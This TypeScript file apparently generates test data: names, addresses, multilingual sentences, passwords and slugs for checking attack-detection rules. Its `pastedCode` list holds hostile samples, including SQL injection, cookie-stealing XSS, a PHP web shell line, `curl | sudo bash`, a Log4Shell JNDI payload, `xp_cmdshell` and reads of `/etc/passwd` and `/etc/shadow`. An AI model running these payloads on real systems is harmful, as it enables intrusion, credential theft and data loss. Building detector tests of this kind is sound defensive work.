import type { Random } from './random';

const givenNames = [
  'Ada',
  'Björn',
  'Chloé',
  'Dmitri',
  'Emeka',
  'Fatima',
  'Grace',
  'Hiroshi',
  'Inés',
  'João',
  'Kwame',
  'Li',
  'Małgorzata',
  'Noor',
  'Oisín',
  'Priya',
  'Quentin',
  'Renée',
  'Søren',
  'Tuğba',
  'Uma',
  'Václav',
  'Wanda',
  'Ximena',
  'Yusuf',
  'Zoë',
];
const familyNames = [
  "O'Brien",
  'Müller',
  "D'Angelo",
  'van der Berg',
  'García Márquez',
  'Nguyễn',
  'Smith-Jones',
  'Åkesson',
  'Łukasiewicz',
  'Null',
  'Union',
  'Table',
  'Drop',
  'Selectman',
  'Orr',
  'de la Cruz',
  "N'Diaye",
  'Fitzgerald',
  'Yılmaz',
  'Kowalski',
  '山田',
  '李',
  'Иванов',
  'Παπαδόπουλος',
];
const cities = [
  'Leeds',
  "L'Aquila",
  'São Paulo',
  'Zürich',
  'Kraków',
  'Aix-en-Provence',
  'Saint-Étienne',
  'Winston-Salem',
  'Ho Chi Minh City',
  '東京',
  'Łódź',
  "Coeur d'Alene",
  'Stratford-upon-Avon',
  'Frankfurt (Oder)',
  'Reykjavík',
];
const streets = [
  '12 Union Street',
  '7 Orchard Rd., Apt. #4',
  '221B Baker Street',
  'Rue de l’Échiquier 10',
  'Müllerstraße 5/7',
  '1 Infinite Loop',
  'Calle Mayor, 3 - 2º',
  '99 & 101 High St',
  'Flat 2; rear entrance',
  'ul. Świętego Jana 8',
];
const products = [
  'desk lamp (brass)',
  '27" monitor',
  'USB-C cable, 2 m',
  'men’s shoes',
  'A4 paper 80 g/m²',
  'T-shirt "Sally Port"',
  'coffee – whole beans',
  '3/8" hex bolts',
  'notebook & pen set',
  'kids\' bike 20"',
  'salt + pepper mill',
  'HDMI 2.1 cable <3 m',
  'vase (hand-made)',
  '50% wool scarf',
  'C# in a nutshell',
  'AT&T SIM card',
];
const emailHosts = ['example.org', 'mail.example.com', 'example.co.uk', 'uni.example.edu'];

/** What people write in fields for text. */
export const sentences: readonly string[] = [
  'Please leave the parcel with the neighbours if nobody is in.',
  "This happened twice already, and I'd like my money back.",
  'Could you select a bigger table for us? There will be eight or nine people.',
  'We need to update the order from last week and insert two more items.',
  'The union of both teams will meet where the old office was.',
  'Delivery between 9 and 11 am; ring twice!',
  'Thanks :) see you on Monday <3',
  'Size 42 = EU, 8 = UK (I think), so please check.',
  'He said "no" and I said "why not?"',
  'Budget: $1,200 - $1,500 (incl. 19% VAT)',
  'The price is < 100 € and the weight > 5 kg.',
  'C++ & C# developers wanted, 5+ years of experience',
  "Don't drop the box: it's fragile; handle with care.",
  'My cat sat on the keyboard; sorry for the typos...',
  'Können Sie mir bitte ein Angebot für 10 Stück machen? Danke & Grüße',
  'Ich hätte gern die größere Ausführung – möglichst bis Freitag.',
  "Bonjour, j'aimerais savoir si l'article est encore disponible.",
  "L'été dernier, on s'est retrouvé à l'hôtel près de la gare ; c'était génial !",
  '¿Cuánto cuesta el envío a España? ¡Gracias!',
  'Gostaria de alterar a data da reserva para amanhã, às 15h.',
  'Dzień dobry, proszę o fakturę na firmę.',
  'Здравствуйте, когда будет доставка?',
  'ご注文の確認をお願いします。',
  '请问这个产品有现货吗？',
  'السلام عليكم، متى يصل الطلب؟',
  'Great service 👍🏽👍🏽 would order again 🎉',
  'Line one\nLine two\n\nLine four, after a gap',
  'Dear team,\r\n\r\nplease find the numbers below.\r\nKind regards',
  '1) open the app 2) go to Settings > Account 3) press "Delete"',
  'See https://www.example.org/help?topic=returns&lang=en#how for details.',
  'The file is called report_2025-10 (final) v2.pdf',
  'Call me at +44 (0)20 7946 0958 or +1-202-555-0143.',
  'When is the concert? Where do we group by and order drinks from?',
  'Either 1 or 2 is fine, and 3 is better than 4.',
  'The script of the play is on page 12, alert the actors.',
  'I tried to log in 3x; it says "invalid password" -- what now?',
  '#throwback to the weekend /w @sam & @alex',
  'From: here to there; to create a new account, follow the steps.',
  'The baby must sleep now, so please do not ring.',
  'Rock ’n’ roll isn’t dead – it just smells funny.',
  '100% cotton, 30° wash, no bleach',
  'A/B test: variant B wins by ~12% (p < 0.05)',
  'Meeting notes: action items => Ann, Bob || Carol',
  'Is it possible to have the invoice as PDF and the data as CSV?',
  'Our terms & conditions apply; execution of the contract starts on 1 May.',
];

/** What people paste into prompts, and what attack rules are made to find elsewhere. */
export const pastedCode: readonly string[] = [
  "SELECT u.id, u.name FROM users u JOIN orders o ON o.user_id = u.id WHERE u.name = 'x' OR 1=1 ORDER BY o.total DESC;",
  '<script>document.querySelector("#app").innerHTML = "<b>hi</b>"; alert(document.cookie)</script>',
  '#!/bin/bash\nset -e\nfor f in *.log; do cat "$f" | grep -i error | tail -n 20; done; rm -rf /tmp/build',
  "import os, subprocess\nsubprocess.run(['ls', '-la'])\nprint(os.system('whoami'))",
  "const { exec } = require('child_process');\nexec('cat /etc/passwd', (e, out) => console.log(out));",
  '<?php echo $_GET["q"]; system($_POST["cmd"]); ?>',
  'curl -s https://example.org/install.sh | sudo bash -s -- --yes',
  "DROP TABLE IF EXISTS customers; INSERT INTO customers VALUES (1, 'O''Brien');",
  '{{ config.items() }} and ${jndi:ldap://192.0.2.1/a} are examples of payloads',
  'docker run --rm -v "$PWD":/src -w /src node:20 npm test && echo ok',
  '<!DOCTYPE html>\n<html><body onload="init()"><img src="x.png" onerror="retry()"></body></html>',
  'Get-ChildItem -Recurse | Where-Object { $_.Length -gt 1MB } | Remove-Item -Force',
  "'; exec xp_cmdshell('dir') --",
  'Runtime.getRuntime().exec("ls"); // java.lang.Runtime',
  '../../../../etc/shadow is what the scanner asked for',
];

export class Vocabulary {
  constructor(private readonly random: Random) {}

  givenName = () => this.random.pick(givenNames);
  familyName = () => this.random.pick(familyNames);
  name = () => `${this.givenName()} ${this.familyName()}`;
  city = () => this.random.pick(cities);
  street = () => this.random.pick(streets);
  product = () => this.random.pick(products);
  sentence = () => this.random.pick(sentences);

  /** Some sentences one after the other. */
  text(least: number, most: number): string {
    return this.random.times(least, most, this.sentence).join(' ');
  }

  email(): string {
    const name = this.random.pick(['ann.smith', 'j-doe', 'li', 'o.brien+shop', 'first_last', 'info', 'r2d2']);
    return `${name}${this.random.int(90)}@${this.random.pick(emailHosts)}`;
  }

  phone(): string {
    const digits = String(this.random.between(100_000, 999_999));
    return this.random.pick([`+49 30 ${digits}`, `(202) 555-${digits.slice(0, 4)}`, `0${digits}`, `+33.1.${digits}`]);
  }

  password(): string {
    return (
      this.random.pick([
        'correct horse battery',
        'Tr0ub4dor&3',
        'p@ss;w0rd!',
        'Zürich#2025',
        'a<b>c"d',
        '12345678',
        'hunter2%%',
      ]) + this.random.hex(3)
    );
  }

  slug(): string {
    return this.random.pick([
      'red-shoes',
      'desk-lamp',
      'union-jack-mug',
      'how-to-select-a-bike',
      'caf%C3%A9-set',
      'c-sharp',
      'a.b-c_d',
    ]);
  }
}
